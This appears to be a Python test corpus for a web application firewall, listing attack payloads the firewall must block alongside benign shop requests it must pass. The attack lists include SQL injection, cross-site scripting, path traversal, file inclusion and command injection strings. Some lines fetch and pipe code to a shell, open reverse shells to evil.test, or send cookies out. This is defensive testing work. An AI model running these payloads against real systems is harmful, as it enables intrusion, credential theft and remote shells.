"""The WAF's test corpora: attacks that must be blocked, and benign requests that must
pass. Each entry becomes a request head: (method, target, headers)."""

from __future__ import annotations

import json
from urllib.parse import quote

Head = tuple[str, str, list[tuple[str, str]]]

SQLI = [
    "1' OR '1'='1",
    "1' or 1=1--",
    "' OR 1=1#",
    "admin'--",
    "' or ''='",
    "1 UNION SELECT username, password FROM users",
    "1 union all select null,null,null--",
    "-1 UNION SELECT 1,@@version,3",
    "1; DROP TABLE users--",
    "'; DELETE FROM accounts; --",
    "1' AND SLEEP(5)--",
    "1 AND BENCHMARK(5000000,MD5(1))",
    "1'; WAITFOR DELAY '0:0:5'--",
    "1) OR (1=1",
    "x' AND 1=(SELECT COUNT(*) FROM information_schema.tables)--",
    "1' ORDER BY 3--",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1 AND extractvalue(1,concat(0x7e,version()))",
    "1' and updatexml(1,concat(0x7e,user()),1)--",
    "'||(SELECT pg_sleep(5))||'",
    "1;SELECT pg_sleep(5)",
    "1' or 'a'='a",
    '" or ""="',
    "') or ('1'='1",
    "1 OR 1=1",
    "1' /*!50000UNION*/ /*!50000SELECT*/ 1,2--",
    "UN/**/ION SE/**/LECT password FROM users",
    "1'/**/or/**/'1'='1",
    "char(0x41,0x42)",
    "1' AND (SELECT 1 FROM mysql.user LIMIT 1)='1",
    "'; EXEC xp_cmdshell('dir')--",
    "1 INTO OUTFILE '/tmp/x'",
    "' union select load_file('/etc/passwd')--",
    "0x414243444546474849",
    "admin' #",
    "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2))--",
    "SELECT * FROM users WHERE id=1",
    "' AND 1=CAST((SELECT version()) AS int)--",
    "%27%20OR%20%271%27%3D%271",
    "1%27%20union%20select%201%2C2--",
    "1' or true--",
    "' or 1 like 1--",
    "'; shutdown--",
    "1' xor '1'='1",
    "@@version",
]
XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<body onload=alert('x')>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=prompt(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    '<object data="data:text/html,<script>alert(1)</script>">',
    "<embed src=javascript:alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<link rel=import href=//evil.test>",
    "<style>@import'//evil.test'</style>",
    "<form action=javascript:alert(1)><input type=submit>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    '<img src="x" onmouseover="alert(1)">',
    "document.cookie",
    "<scr<script>ipt>alert(1)</script>",
    "eval(atob('YWxlcnQoMSk='))",
    "confirm(1)",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<x onclick=alert(1)>click",
    "expression(alert(1))",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    '"onmouseover="alert(1)',
    "<img src=1 onerror=document.location='//evil.test/?c='+document.cookie>",
]
TRAVERSAL = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%2f..%2f..%2fetc%2fshadow",
    "/etc/passwd",
    "/proc/self/environ",
    "..%5c..%5cboot.ini",
    "c:\\windows\\system32\\drivers\\etc\\hosts",
    "file/../../../etc/hosts",
    "/static/../../../../etc/group",
    ".%2e/.%2e/etc/passwd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..;/..;/etc/passwd",
    "/var/log/apache2/access.log",
    "../../../../../../../../../../etc/passwd%00.png",
    "..%c0%af..%c0%afetc/passwd",
    "/..%2f..%2f..%2fetc/passwd",
    "images/../../../etc/shadow",
    "../../../../proc/self/cmdline",
    "..\\..\\..\\..\\boot.ini",
    "%2e%2e%5c%2e%2e%5cwin.ini",
    "/../../../../../etc/hosts",
    "....\\....\\win.ini",
    "..//..//..//etc/passwd",
    "%252e%252e/%252e%252e/etc/passwd",
    "/download?file=../../etc/passwd",
    "templates/../../../config.php",
    "..%2F..%2F..%2Fvar%2Flog%2Fauth.log",
    "/proc/self/fd/0",
    "C:\\Windows\\win.ini",
    "\\\\.\\globalroot\\device",
    "../" * 8 + "etc/passwd",
    "..%255c..%255cwin.ini",
]
RFI = [
    "http://evil.test/shell.txt?",
    "https://evil.test/x.php?",
    "php://filter/convert.base64-encode/resource=index.php",
    "php://input",
    "zip://shell.jpg#shell.php",
    "phar://uploads/avatar.jpg/shell.php",
    "expect://id",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "file:///etc/passwd",
    "dict://127.0.0.1:11211/stats",
    "gopher://127.0.0.1:6379/_FLUSHALL",
    "ftp://evil.test/shell.txt?",
    "http://10.0.0.1/admin",
    "http://169.254.169.254/latest/meta-data/",
    "jar:http://evil.test/x.jar!/",
    "glob://*",
    "include('http://evil.test/x')",
    "require_once('/etc/passwd')",
    "HTTP://EVIL.TEST/SHELL.TXT?",
    "php://filter/resource=/etc/passwd",
    "file://localhost/etc/shadow",
    "https://1.2.3.4/x",
    "php%3A%2F%2Ffilter%2Fresource%3Dconfig.php",
    "file%3A%2F%2F%2Fproc%2Fself%2Fenviron",
    "http%3A%2F%2Fevil.test%2Fs.txt%3F",
]
CMDI = [
    "; cat /etc/passwd",
    "| id",
    "&& whoami",
    "`id`",
    "$(whoami)",
    "; ls -la /",
    "|| uname -a",
    "; wget http://evil.test/x.sh",
    "; curl -s http://evil.test/x | sh",
    "& ping -c 10 127.0.0.1",
    "; nc -e /bin/sh evil.test 4444",
    "; bash -i >& /dev/tcp/1.2.3.4/8080 0>&1",
    "| powershell -enc AAA",
    "& cmd.exe /c dir",
    "; rm -rf /tmp/x",
    "${IFS}cat${IFS}/etc/passwd",
    "; python -c 'import os'",
    "; perl -e 'print 1'",
    "| nslookup evil.test",
    "; echo vulnerable",
    "127.0.0.1; sleep 5",
    "a;id;",
    "`sleep 5`",
    "$(curl http://evil.test)",
    "; chmod 777 /tmp/x",
    "| type c:\\windows\\win.ini",
    "& net user",
    "; /bin/bash -c id",
    "${jndi:ldap://evil.test/a}",
    "; ifconfig",
    "| ncat evil.test 4444 -e /bin/sh",
    "x&&curl -o /tmp/a http://evil.test/a",
    "; php -r 'system(\"id\");'",
    "; ruby -e 'exec \"id\"'",
    "| ipconfig /all",
]
SCANNERS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
    "Nmap Scripting Engine",
    "masscan/1.3",
    "Mozilla/5.0 zgrab/0.x",
    "Acunetix-Aspect-Queries",
    "Nessus SOAP",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0 (ffuf)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "Havij",
    "Mozilla/5.0 Netsparker",
    "Mozilla/5.0 (compatible; OWASP ZAP)",
    "Wfuzz/3.1.0",
    "commix/v3.8",
    "XSStrike",
    "feroxbuster/2.10",
    "whatweb/0.5.5",
]


def arg(payload: str) -> Head:
    return "GET", "/search?q=" + quote(payload, safe=""), [("host", "shop.test")]


def attacks() -> list[tuple[str, Head]]:
    out: list[tuple[str, Head]] = []
    out += [("sqli", arg(p)) for p in SQLI]
    out += [("xss", arg(p)) for p in XSS]
    out += [("traversal", ("GET", "/files?name=" + p.replace(" ", "%20"), [("host", "shop.test")]))
            for p in TRAVERSAL]  # fmt: skip
    out += [
        ("rfi", ("GET", "/page?include=" + quote(p, safe="%"), [("host", "shop.test")]))
        for p in RFI
    ]
    shop = [("host", "shop.test")]
    out += [("cmdi", ("GET", "/ping?host=" + quote("127.0.0.1" + p, safe=""), shop))
            for p in CMDI]  # fmt: skip
    out += [
        ("scanner", ("GET", "/", [("host", "shop.test"), ("user-agent", ua)])) for ua in SCANNERS
    ]
    out += [
        ("sqli-cookie", ("GET", "/", [("host", "shop.test"), ("cookie", "session=1' or '1'='1")])),
        (
            "xss-referer",
            ("GET", "/", [("host", "shop.test"), ("referer", "<script>alert(1)</script>")]),
        ),
        ("size", ("GET", "/" + "a" * 3000, [("host", "shop.test")])),
        ("size", ("GET", "/q?" + "&".join(f"a{i}=1" for i in range(300)), [("host", "shop.test")])),
        ("size", ("GET", "/", [("host", "shop.test"), ("x-junk", "x" * 9000)])),
    ]
    return out


QUERIES = [
    "O'Reilly books",
    "rock & roll",
    "C++ tutorial",
    "5 > 3",
    "what's new?",
    "select a plan",
    "union station hours",
    "drop shipping",
    '"exact phrase" search',
    "100% cotton t-shirt",
    "price < 50",
    "a+b=c",
    "Ben & Jerry's",
    "how to use <div> in html",
    "java script tutorial",
    "order by date",
    "1=1 math proof",
    "email@example.com",
    "café crème",
    "naïve bayes",
    "Zürich hotels",
    "tickets for 'Hamilton'",
    "who's on first",
    "50/50 raffle",
    "c:/users guide",
    "#hashtag",
    "@mention",
    "semi;colon",
    "pipe | table",
    "dollar $100",
    "back`tick`",
    "update my address",
    "delete account help",
    "insert coin",
    "script writing class",
    "alert systems for homes",
    "onload time optimization",
    "document management",
    "the ../ notation in paths",
    "etc. abbreviation",
    "windows 11 update",
    "passwd meaning",
    "http status codes",
    "curl examples",
    "sleep tips",
    "ping pong tables",
    "cat food",
    "id card renewal",
    "where to buy milk",
    "SQL for beginners",
    "learn python 3",
    "wget vs curl",
    "best 4k tv 2026",
    "recipe: mac & cheese",
    "(555) 123-4567",
    "x-ray prices",
    "is 0.1+0.2 = 0.3?",
]
PATHS = [
    "/api/v1/users/12345",
    "/api/v1/users/12345/orders?page=2&per_page=50",
    "/api/v2/products?category=shoes&sort=-price",
    "/v1/search?query=red+shoes&size=42",
    "/orders/2024-11-27/summary",
    "/static/js/app.3f9a1c.js",
    "/static/css/main.css",
    "/images/logo.png?v=3",
    "/health",
    "/metrics",
    "/graphql",
    "/api/v1/items/abc-123-def",
    "/login",
    "/logout?next=/home",
    "/account/settings#profile",
    "/blog/2026/11/how-to-scale",
    "/docs/getting-started/install",
    "/cart?coupon=SAVE10",
    "/checkout/step-2",
    "/api/v1/reports?from=2026-01-01&to=2026-12-31&format=csv",
    "/favicon.ico",
    "/robots.txt",
    "/api/v1/files/report%20final.pdf",
    "/u/jane.doe",
    "/wiki/C%2B%2B",
    "/wiki/Caf%C3%A9",
    "/api/v1/geo?lat=52.52&lon=13.40",
    "/callback?code=4%2F0AX4XfWh&state=xyz",
    "/redirect?url=%2Fdashboard",
    "/api/v1/tags?names=a,b,c",
]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Safari/605.1.15",
    "curl/8.5.0",
    "python-httpx/0.28.1",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
]


def benign() -> list[Head]:
    out: list[Head] = []
    for i, q in enumerate(QUERIES):
        headers = [("host", "shop.test"), ("user-agent", AGENTS[i % len(AGENTS)]),
                   ("cookie", f"session=ab{i}cd; theme=dark; lang=en-US")]  # fmt: skip
        out.append(("GET", "/search?q=" + quote(q, safe=""), headers))
        out.append(("GET", f"/search?q={quote(q)}&page={i % 5 + 1}&sort=relevance", headers))
    for i, p in enumerate(PATHS):
        headers = [("host", "api.shop.test"), ("user-agent", AGENTS[i % len(AGENTS)]),
                   ("accept", "application/json"),
                   ("authorization", f"Bearer eyJhbGciOi.{i}abc.def"),
                   ("referer", "https://shop.test/search?q=shoes")]  # fmt: skip
        out.append(("GET", p, headers))
        out.append(("POST", p, [*headers, ("content-type", "application/json; charset=utf-8")]))
        out.append(("DELETE" if i % 2 else "PUT", p, headers))
    return out


# --- request bodies -----------------------------------------------------------------------

Body = tuple[str, str, list[tuple[str, str]], bytes]
FORM = ("content-type", "application/x-www-form-urlencoded")
JSON = ("content-type", "application/json")


def _body(kind: str, fields: dict[str, object]) -> tuple[tuple[str, str], bytes]:
    if kind == "form":
        pairs = "&".join(f"{k}={quote(str(v), safe='')}" for k, v in fields.items())
        return FORM, pairs.encode()
    return JSON, json.dumps(fields).encode()


def body_attacks() -> list[tuple[str, Body]]:
    """Attacks in form and JSON bodies (every other one each way), and body-size abuse."""
    payloads = [("sqli", p) for p in SQLI[:24]] + [("xss", p) for p in XSS[:24]]
    payloads += [("cmdi", "127.0.0.1" + p) for p in CMDI[:16]]
    payloads += [("rfi", p) for p in RFI[:10]] + [("traversal", p) for p in TRAVERSAL[:10]]
    out: list[tuple[str, Body]] = []
    for i, (category, p) in enumerate(payloads):
        kind = "form" if i % 2 else "json"
        fields: dict[str, object] = {"name": "jane", "comment": p, "n": i}
        if kind == "json":
            fields = {"user": {"name": "jane", "tags": ["a", p]}, "n": i}
        ctype, body = _body(kind, fields)
        headers = [("host", "shop.test"), ctype]
        out.append((f"{category}-{kind}", ("POST", "/api/v1/comments", headers, body)))
    many = "&".join(f"f{i}=1" for i in range(1500)).encode()
    out.append(("size-form", ("POST", "/form", [("host", "shop.test"), FORM], many)))
    strings = json.dumps({"items": [str(i) for i in range(1200)]}).encode()
    out.append(("size-json", ("POST", "/api", [("host", "shop.test"), JSON], strings)))
    return out


REVIEWS = [
    "Great shoes, 5 > 3 stars for sure! Would buy again :)",
    "Didn't fit. Returned them -- the refund took 3 days.",
    'Works with <iPhone 15> & Android; battery is "ok".',
    "My son's favourite; he says it's 'the best' (he's 7).",
    "Price/quality = 10/10. Select the blue one, the red fades.",
    "Use code SAVE10; it worked on 2026-11-27.",
    "The manual says: run `setup --fast` then restart.",
    "1 + 1 = 2, and this kettle boils in 2 minutes.",
    "I'd order by the dozen if I could.",
    "Or maybe not: the lid broke after a week.",
    "Union-made in Portugal, drop-shipped from Spain.",
    "Tried it on Windows and Linux (../ paths confused me at first).",
    "Email me at jane.doe+shop@example.com if you want photos.",
    "It's 100% wool & 0% itchy.",
    "Café owner here: this grinder is great for 20+ cups/day.",
    "Ratings: quality=5; delivery=4; price=3",
]


def body_benign() -> list[Body]:
    """Realistic API and form bodies: queries with quotes and symbols, reviews, sign-ups."""
    out: list[Body] = []
    api = [("host", "api.shop.test"), ("user-agent", AGENTS[0])]
    for i, q in enumerate(QUERIES):
        filters = {"brand": ["acme", "O'Neill"], "max": 50}
        ctype, body = _body("json", {"query": q, "page": i % 5 + 1, "filters": filters})
        out.append(("POST", "/api/v1/search", [*api, ctype], body))
        ctype, body = _body("form", {"q": q, "sort": "relevance"})
        out.append(("POST", "/search", [*api, ctype], body))
    for i, text in enumerate(REVIEWS):
        author = {"name": "Seán O'Brien", "city": "Zürich"}
        review = {"product": f"sku-{i}", "rating": i % 5 + 1, "text": text, "author": author}
        ctype, body = _body("json", review)
        out.append(("POST", "/api/v1/reviews", [*api, ctype], body))
        ctype, body = _body("form", {"title": text[:20], "body": text, "stars": 4})
        out.append(("POST", "/reviews/new", [*api, ctype], body))
    signups = [
        {"email": "jane@example.com", "password": "p@ss'w0rd!", "name": "Jane O'Hara"},
        {"email": "max@example.de", "password": "Tr0ub4dor&3", "name": "Max Müller"},
        {"email": "li@example.cn", "password": "correct horse battery staple", "name": "Li Wei"},
        {"email": "ana@example.pt", "password": 'a<b>c"d', "name": "Ana-Maria D'Souza"},
    ]
    for signup in signups:
        out.append(("POST", "/api/v1/users", [*api, JSON], json.dumps(signup).encode()))
        ctype, body = _body("form", {**signup, "terms": "on", "next": "/welcome?step=2"})
        out.append(("POST", "/signup", [*api, ctype], body))
    orders = [{"items": [{"sku": f"sku-{i}", "qty": i + 1, "note": "gift wrap, please; no card"}],
               "address": {"line1": f"{i} Main St. #4", "city": "St. John's"},
               "coupon": "SAVE10"} for i in range(10)]  # fmt: skip
    out += [("POST", "/api/v1/orders", [*api, JSON], json.dumps(o).encode()) for o in orders]
    return out
